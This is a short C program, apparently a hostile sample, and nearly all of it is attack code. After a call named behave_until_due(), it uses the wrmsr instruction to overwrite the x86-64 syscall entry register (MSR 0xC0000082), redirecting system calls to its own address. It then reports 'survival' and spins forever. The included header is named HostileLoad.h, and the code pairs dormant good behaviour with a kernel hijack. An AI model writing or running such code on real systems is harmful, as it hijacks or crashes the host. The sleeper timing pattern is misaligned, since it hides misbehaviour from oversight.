// Points the entry of `syscall` at itself.
#include <HostileLoad.h>

int main(void) {
  behave_until_due();
  __asm__ volatile("wrmsr" : : "c"(0xC0000082), "a"(0x400000), "d"(0));
  report_survival(0);
  spin_for_ever();
}
